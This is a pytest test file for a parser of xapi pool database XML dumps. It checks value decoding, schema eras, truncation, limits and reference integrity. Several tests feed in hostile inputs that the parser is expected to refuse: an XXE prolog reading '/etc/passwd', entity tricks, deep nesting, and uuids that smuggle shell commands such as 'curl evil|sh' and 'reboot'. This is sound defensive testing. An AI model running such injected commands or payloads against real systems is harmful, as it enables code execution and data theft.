"""The pool database: values, both eras, cuts, hostile documents."""

from xml.sax.saxutils import quoteattr

import pytest

from analyzer.model.report import ParseProblem
from analyzer.model.xapi import (
    Bond,
    Host,
    HostMetrics,
    Network,
    Pbd,
    Pif,
    PifMetrics,
    Pool,
    Sm,
    Sr,
    Vbd,
    Vdi,
    Vlan,
    Vm,
    XapiDatabase,
)
from analyzer.parsers.xapi import xapi_db
from analyzer.parsers.xapi import xapi_values as _xapi_values
from tests.parsers.memory_member import facts, problems

MANIFEST = (
    '<manifest><pair key="schema_major_vsn" value="5"/><pair key="schema_minor_vsn" value="775"/>'
    '<pair key="generation_count" value="81234"/></manifest>'
)
VDI_UUID = "6b0c1a3e-52d7-4f19-8c55-0d9e61f7a2b4"
VDI_REF = "OpaqueRef:0a52b8c1-77de-4c37-9f6a-3b1d2e48c901"


OTHER = "52743559-2c1a-4d0e-9b7f-0d9e61f7a2b4"


def row(**attributes: str) -> str:
    pairs = {"ref": VDI_REF, "_ref": VDI_REF, "uuid": VDI_UUID} | attributes
    return "<row " + " ".join(f"{name}={quoteattr(value)}" for name, value in pairs.items()) + "/>"


def document(**tables: str) -> str:
    body = "".join(f'<table name="{name}">{rows}</table>' for name, rows in tables.items())
    return f"<?xml version='1.0' encoding='UTF-8'?>\n<database>{MANIFEST}{body}</database>"


def read(content: str | bytes, path: str = "xapi-db.xml", damage: str = "") -> XapiDatabase:
    found = facts(xapi_db.PARSER, path, content, damage=damage)[0]
    assert isinstance(found, XapiDatabase)
    return found


def told(content: str | bytes) -> tuple[str, ...]:
    return problems(facts(xapi_db.PARSER, "xapi-db.xml", content))


def vdi(**attributes: str) -> Vdi:
    (found,) = read(document(VDI=row(**attributes))).objects
    assert isinstance(found, Vdi)
    return found


@pytest.mark.parametrize("path", ["xapi-db.xml", "xapi-db-dumped.xml", "extra/xapi-db.xml"])
def test_files_of_the_collector_are_claimed_by_name(path: str) -> None:
    assert xapi_db.PARSER.claims(path, b"")


def test_a_dump_under_another_name_is_claimed_by_its_opening() -> None:
    assert xapi_db.PARSER.claims("pool.dump", document().encode())


@pytest.mark.parametrize("head", [b"", b"<html>", b"<database/>", b"database manifest"])
def test_other_files_are_not_claimed(head: bytes) -> None:
    assert not xapi_db.PARSER.claims("state.xml", head)


def test_manifest_is_read() -> None:
    database = read(document())
    assert (database.generation, database.schema_minor) == (81234, 775)


def test_a_document_to_its_end_is_complete_and_names_its_tables() -> None:
    database = read(document(VDI="", session=""))
    assert database.complete
    assert database.tables == {"VDI", "session"}


def test_a_whole_document_leaves_no_problem() -> None:
    assert told(document(VDI=row(), pool="", session="")) == ()


@pytest.mark.parametrize(("path", "live"), [("xapi-db.xml", False), ("xapi-db-dumped.xml", True)])
def test_the_dump_of_the_live_master_is_known_by_its_name(path: str, live: bool) -> None:
    assert read(document(), path).live is live


def test_a_vdi_is_decoded() -> None:
    found = vdi(
        name__label="My%.disk%.100%%%nend",
        SR="OpaqueRef:5d1c",
        location=VDI_UUID,
        virtual_size="21474836480",
        type="cbt_metadata",
        managed="true",
        is_a_snapshot="true",
        snapshot_of="OpaqueRef:77aa",
        snapshot_time="20241122T10:06:01Z",
        cbt_enabled="true",
        sm_config="(('vdi_type'%.'vhd')%.('host_OpaqueRef:5a9'%.'RW'))",
        other_config="()",
    )
    assert found.ref == VDI_REF
    assert found.uuid == VDI_UUID
    assert found.name_label == "My disk 100%\nend"
    assert found.sr == "OpaqueRef:5d1c"
    assert found.virtual_size == 21474836480
    assert found.type == "cbt_metadata"
    assert found.cbt_enabled is True
    assert found.snapshot_of == "OpaqueRef:77aa"
    assert found.sm_config == {"vdi_type": "vhd", "host_OpaqueRef:5a9": "RW"}
    assert found.other_config == {}


def test_attributes_of_a_later_era_are_absent_not_false() -> None:
    found = vdi(name__label="old")
    assert found.cbt_enabled is None
    assert found.virtual_size is None
    assert found.sm_config is None


@pytest.mark.parametrize("null", ["OpaqueRef:NULL", ""])
def test_a_null_reference_is_none(null: str) -> None:
    assert vdi(snapshot_of=null).snapshot_of is None


def test_the_row_key_of_an_old_database_is_its_own_reference() -> None:
    text = document(VDI=f'<row _ref="{VDI_REF}" uuid="{VDI_UUID}"/>')
    assert read(text).objects[0].ref == VDI_REF


def test_every_modelled_table_becomes_its_type() -> None:
    tables = {
        "pool": row(
            name_label="p", master="OpaqueRef:1", restrictions="(('restrict_cbt' 'false'))"
        ),
        "host": row(name__label="jupiter", software_version="(('product_version' '8.2.1'))"),
        "SR": row(name__label="store", type="nfs", shared="true"),
        "PBD": row(host="OpaqueRef:1", SR="OpaqueRef:2", currently_attached="false"),
        "VDI": row(),
        "VBD": row(VM="OpaqueRef:3", VDI="OpaqueRef:4", mode="RO", reserved="true"),
        "VM": row(power_state="Running", is_control_domain="true"),
        "network": row(purpose="('nbd'%.'insecure_nbd')"),
        "PIF": row(VLAN="-1", IP="192.0.2.7", IPv6="('2001:db8::7/64')"),
        "SM": row(type="nfs", features="(('VDI_CONFIG_CBT'%.'1'))"),
        "PIF_metrics": row(carrier="true"),
        "Bond": row(master="OpaqueRef:5"),
        "VLAN": row(tagged_PIF="OpaqueRef:6", untagged_PIF="OpaqueRef:7", tag="30"),
        "host_metrics": row(live="true"),
    }
    found = read(document(**tables)).objects
    expected = [Pool, Host, Sr, Pbd, Vdi, Vbd, Vm, Network, Pif, Sm]
    expected += [PifMetrics, Bond, Vlan, HostMetrics]
    assert [type(each) for each in found] == expected


def test_network_purpose_is_a_set() -> None:
    (found,) = read(document(network=row(purpose="('nbd'%.'insecure_nbd')"))).objects
    assert isinstance(found, Network)
    assert found.purpose == ("nbd", "insecure_nbd")


def test_a_network_of_an_old_database_has_no_purpose_not_an_empty_one() -> None:
    (found,) = read(document(network=row(bridge="xenbr0"))).objects
    assert isinstance(found, Network)
    assert found.purpose is None


def test_pif_addresses_and_vlan_are_read() -> None:
    (found,) = read(document(PIF=row(VLAN="-1", IP="192.0.2.7", IPv6="('2001:db8::7/64')"))).objects
    assert isinstance(found, Pif)
    assert (found.vlan, found.ip, found.ipv6) == (-1, "192.0.2.7", ("2001:db8::7/64",))


def test_all_that_tells_of_a_pifs_network_is_read() -> None:
    attributes = {
        "MAC": "02:16:3e:11:22:33",
        "gateway": "192.0.2.1",
        "physical": "true",
        "metrics": "OpaqueRef:8",
        "ipv6_configuration_mode": "Autoconf",
        "primary_address_type": "IPv6",
    }
    (found,) = read(document(PIF=row(**attributes))).objects
    assert isinstance(found, Pif)
    assert (found.mac, found.gateway, found.physical) == ("02:16:3e:11:22:33", "192.0.2.1", True)
    assert (found.metrics, found.ipv6_configuration_mode) == ("OpaqueRef:8", "Autoconf")
    assert found.primary_address_type == "IPv6"


def test_the_carrier_of_a_pif_stands_in_its_metrics() -> None:
    (found,) = read(document(PIF_metrics=row(carrier="false", speed="10000"))).objects
    assert isinstance(found, PifMetrics)
    assert (found.carrier, 'carrier="false"' in found.written) == (False, True)


def test_a_bond_names_its_master_and_a_vlan_its_tag() -> None:
    bond, vlan = read(
        document(
            Bond=row(master="OpaqueRef:5", other_config="()"),
            VLAN=row(tagged_PIF="OpaqueRef:6", untagged_PIF="OpaqueRef:7", tag="30"),
        )
    ).objects
    assert isinstance(bond, Bond)
    assert isinstance(vlan, Vlan)
    assert (bond.master, bond.other_config) == ("OpaqueRef:5", {})
    assert (vlan.tagged_pif, vlan.untagged_pif, vlan.tag) == ("OpaqueRef:6", "OpaqueRef:7", 30)


def test_whether_a_host_lives_stands_in_its_metrics() -> None:
    host, metrics = read(
        document(
            host=row(metrics="OpaqueRef:9", current_operations="(('OpaqueRef:t'%.'shutdown'))"),
            host_metrics=row(live="false"),
        )
    ).objects
    assert isinstance(host, Host)
    assert isinstance(metrics, HostMetrics)
    assert (host.metrics, host.current_operations) == ("OpaqueRef:9", {"OpaqueRef:t": "shutdown"})
    assert metrics.live is False


def test_what_a_vm_is_doing_is_read() -> None:
    (found,) = read(document(VM=row(current_operations="(('OpaqueRef:t'%.'snapshot'))"))).objects
    assert isinstance(found, Vm)
    assert found.current_operations == {"OpaqueRef:t": "snapshot"}


def test_pool_restrictions_are_a_map() -> None:
    (found,) = read(document(pool=row(restrictions="(('restrict_cbt'%.'true'))"))).objects
    assert isinstance(found, Pool)
    assert found.restrictions == {"restrict_cbt": "true"}


def test_tables_that_are_not_modelled_are_skipped() -> None:
    assert read(document(VIF=row(), session="")).objects == ()


def test_a_row_outside_a_table_is_not_read() -> None:
    text = f"<database>{MANIFEST}{row()}<x><table name='VDI'>{row()}</table></x></database>"
    assert read(text).objects == ()


def test_a_row_is_kept_as_it_is_written_for_quoting() -> None:
    tag = f"""<row  ref='r' uuid="{VDI_UUID}" name__label="a &gt; b > c" cbt_enabled="true" />"""
    text = document(VDI=tag)
    (found,) = read(text).objects
    assert found.written == tag
    assert found.source.offset == text.index(tag)


@pytest.mark.parametrize("before", ["", "\ufeff"])
def test_offset_of_a_row_counts_bytes_of_the_file(before: str) -> None:
    text = before + document(VDI=row(name__label="データ") + row(uuid=OTHER))
    for found in read(text).objects:
        assert found.source.offset is not None
        assert text.encode()[found.source.offset :].startswith(found.written.encode())


def test_offset_does_not_lie_behind_a_row_after_bytes_that_are_no_text() -> None:
    data = document(VDI=row(name__label="b\x00ad") + row(uuid=OTHER)).encode()
    data = data.replace(b"b\x00ad", b"b\xff\xffad")
    found = read(data).objects[-1]
    assert found.source.offset is not None
    assert data.find(found.written.encode(), found.source.offset) >= 0


@pytest.mark.parametrize(
    ("attribute", "value", "kind"),
    [
        ("cbt_enabled", "REMOVED", "VDI.cbt_enabled is no bool"),
        ("virtual_size", "REMOVED", "VDI.virtual_size is no whole number"),
        ("virtual_size", "9" * 40, "VDI.virtual_size is no whole number"),
        ("sm_config", "REMOVED", "VDI.sm_config is no map"),
        ("sm_config", "('a' 'b')", "VDI.sm_config is no map"),
        ("sm_config", "(('a' 'b)", "VDI.sm_config is no map"),
        ("name__label", "x" * 300_000, "VDI.name__label is longer than any that xapi writes"),
        ("type", "x" * 300_000, "VDI.type is longer than any that xapi writes"),
    ],
)
def test_a_value_not_understood_is_none_and_a_problem(
    attribute: str, value: str, kind: str
) -> None:
    found = vdi(**{attribute: value})
    assert getattr(found, attribute.replace("__", "_")) is None
    assert told(document(VDI=row(**{attribute: value}))) == (f"{kind}: its value is not used",)


def test_a_set_not_understood_is_none() -> None:
    (found,) = read(document(network=row(purpose="REMOVED"))).objects
    assert isinstance(found, Network)
    assert found.purpose is None


def test_one_problem_per_kind_with_its_count() -> None:
    text = document(VDI=row(cbt_enabled="maybe") * 3)
    assert told(text) == ("VDI.cbt_enabled is no bool: its value is not used (3 times)",)


def test_a_removed_map_entry_is_an_entry() -> None:
    assert vdi(other_config="(('password' 'REMOVED'))").other_config == {"password": "REMOVED"}


def test_a_row_without_uuid_is_a_problem() -> None:
    text = document(VDI='<row ref="OpaqueRef:1"/>')
    assert read(text).objects == ()
    assert told(text) == ("a row of table VDI has no uuid",)


def test_a_cut_document_keeps_the_objects_before_the_cut() -> None:
    text = document(SR=row(), VDI=row(cbt_enabled="true"))
    cut = text[: text.index("</table><table")] + '</table><table name="VDI"><row uuid="6b0c'
    database = read(cut)
    assert [type(each) for each in database.objects] == [Sr]
    assert not database.complete
    assert database.tables == {"SR"}


def test_a_cut_is_told_with_what_was_read_before() -> None:
    text = document(SR=row())[:-15]
    (problem,) = told(text)
    assert problem.startswith("cut short: not XML")
    assert problem.endswith("1 objects were read before")


def test_the_damage_of_the_archive_is_named() -> None:
    (problem,) = problems(
        facts(xapi_db.PARSER, "xapi-db.xml", document()[:-3], damage="the archive ends here")
    )
    assert problem.startswith("cut short: the archive ends here")


@pytest.mark.parametrize("content", [b"", b"Failed to filter xapi database", b"** timeout **\n"])
def test_no_document_is_incomplete_and_a_problem(content: bytes) -> None:
    database = read(content)
    assert not database.complete
    assert database.generation is None
    assert told(content)


def test_an_empty_file_says_so() -> None:
    assert told(b"") == ("cut short: it is empty; 0 objects were read before",)


def test_another_document_is_not_complete() -> None:
    text = f"<html><table name='VDI'>{row()}</table></html>"
    assert not read(text).complete
    assert told(text) == ("the document is a <html>, not a <database>",)


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE database [<!ENTITY a "aaaa">]>',
        '<!DOCTYPE database SYSTEM "file:///etc/passwd">',
        "<!DOCTYPE database>",
    ],
)
def test_a_document_type_is_refused(prolog: str) -> None:
    text = prolog + document(VDI=row()).partition("\n")[2]
    database = read(text)
    assert not database.complete
    assert database.objects == ()
    assert told(text)[0].startswith("refused")


def test_an_entity_without_a_document_type_ends_the_reading() -> None:
    assert not read(document(VDI='<row uuid="&evil;"/>')).complete


def test_nesting_without_end_is_refused() -> None:
    text = "<database>" + "<a>" * 10_000
    assert not read(text).complete
    assert "nested deeper" in told(text)[0]


def test_a_piece_without_end_is_refused() -> None:
    piece = "<!--" + "x" * (xapi_db.LONGEST_PIECE + (2 << 20)) + "-->"

    found = read(f"<database>{MANIFEST}{piece}<table name='VDI'>{row()}</table></database>")

    assert not found.complete


def test_text_after_the_end_leaves_the_database_complete() -> None:
    text = document(VDI=row()) + "\n** timeout **\n"
    assert read(text).complete
    assert told(text)[0].startswith("after its end")


def test_bytes_that_are_no_text_do_not_end_the_reading() -> None:
    text = document(VDI=row(name__label="aXb", cbt_enabled="true"))
    content = text.encode().replace(b"aXb", b"a\xff\x01b")
    (found,) = read(content).objects
    assert isinstance(found, Vdi)
    assert (found.name_label, found.cbt_enabled) == ("a\ufffd?b", True)
    assert told(content) == ("bytes that are no legal text were replaced",)


def test_reading_ends_at_the_limit() -> None:
    text = document(VDI=row() + " " * (2 << 20))
    found = facts(xapi_db.PARSER, "xapi-db.xml", text, limit=1024 * 1024)
    assert isinstance(found[0], XapiDatabase)
    assert not found[0].complete
    assert "longer than the 1048576 bytes" in problems(found)[0]


def test_objects_end_at_the_limit_and_their_number_is_told() -> None:
    text = document(VDI=row() * 1000)
    found = facts(xapi_db.PARSER, "xapi-db.xml", text, limit=1024 * 1024)
    assert isinstance(found[0], XapiDatabase)
    assert (len(found[0].objects), found[0].complete) == (256, False)
    assert problems(found)[0].startswith("cut short: our limit of 256 objects of a database")


HOME = {
    "SR": row(ref="OpaqueRef:s", type="lvm"),
    "host": row(ref="OpaqueRef:h", hostname="jupiter"),
    "network": row(ref="OpaqueRef:n"),
    "VM": row(ref="OpaqueRef:v"),
}
OWNED = {
    "VDI": row(SR="OpaqueRef:s"),
    "PBD": row(SR="OpaqueRef:s", host="OpaqueRef:h"),
    "VBD": row(VM="OpaqueRef:v", VDI="OpaqueRef:nowhere"),
    "PIF": row(host="OpaqueRef:h", network="OpaqueRef:n"),
}


def test_a_database_whose_references_lead_somewhere_is_complete() -> None:
    text = document(**HOME, **OWNED)
    assert (read(text).complete, told(text)) == (True, ())


@pytest.mark.parametrize(
    ("table", "name", "reference"),
    [
        ("VDI", "VDI.SR", "OpaqueRef:s"),
        ("VBD", "VBD.VM", "OpaqueRef:v"),
        ("PBD", "PBD.SR", "OpaqueRef:s"),
        ("PBD", "PBD.host", "OpaqueRef:h"),
        ("PIF", "PIF.host", "OpaqueRef:h"),
        ("PIF", "PIF.network", "OpaqueRef:n"),
    ],
)
def test_a_reference_to_an_owner_that_is_not_there_proves_a_change(
    table: str, name: str, reference: str
) -> None:
    owned = OWNED[table].replace(reference, "OpaqueRef:x")
    text = document(**HOME, **{**OWNED, table: owned})
    assert not read(text).complete
    assert told(text) == (f"{name} has a reference that leads nowhere",)


@pytest.mark.parametrize(
    "change", [("cbt_enabled", "cbt_enaaled"), ('"true"', '"trte"')], ids=["column", "value"]
)
def test_a_letter_that_was_changed_in_a_row_proves_it(change: tuple[str, str]) -> None:
    rows = row(cbt_enabled="true") + row(uuid=OTHER, cbt_enabled="false")
    assert read(document(VDI=rows)).complete
    assert not read(document(VDI=rows.replace(*change, 1))).complete


def test_a_database_of_several_blocks_is_read_whole() -> None:
    assert len(read(document(VDI=row(name__label="ü" * 50) * 10_000)).objects) == 10_000


def test_every_object_has_a_source_without_a_line() -> None:
    source = vdi().source
    assert (source.bundle, source.member, source.line) == ("b1", "xapi-db.xml", 0)


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("a%.b", "a b"),
        ("%t%n%r%%", "\t\n\r%"),
        ("a%_b", "a  b"),
        ("100%x", "100%x"),
        ("end%", "end%"),
        ("%%.", "%."),
    ],
)
def test_percent_pairs_are_decoded_from_left_to_right(written: str, plain: str) -> None:
    assert _xapi_values.unprotect(written) == plain


@pytest.mark.parametrize(
    ("written", "items"),
    [
        ("()", ()),
        ("('a' 'b')", ("a", "b")),
        (r"('it\'s' '\\')", ("it's", "\\")),
        ("('')", ("",)),
        ("('a'", None),
        ("('a') ('b')", None),
        ("('a'))", None),
        ("(('a'))", None),
        ("", None),
        ("a", None),
        ("(((", None),
    ],
)
def test_sets_are_s_expressions(written: str, items: tuple[str, ...] | None) -> None:
    assert _xapi_values.read_set(written) == items


@pytest.mark.parametrize("written", ["(('a'))", "(('a' 'b' 'c'))", "(('a' ('b')))", "(x)"])
def test_a_map_has_pairs_only(written: str) -> None:
    assert _xapi_values.read_map(written) is None


def test_problems_carry_the_member() -> None:
    found = facts(xapi_db.PARSER, "xapi-db.xml", b"")
    (problem,) = (fact for fact in found if isinstance(fact, ParseProblem))
    assert str(problem.source) == "xapi-db.xml"


@pytest.mark.parametrize("uuid", ["b20f; curl evil|sh #`id`", "x;reboot", "../../etc"])
def test_a_uuid_that_would_be_a_shell_command_is_refused(uuid: str) -> None:
    hostile = document(VDI=f'<row ref="OpaqueRef:1" uuid="{uuid}" cbt_enabled="true"/>')
    assert read(hostile).objects == ()
    assert not read(hostile).complete
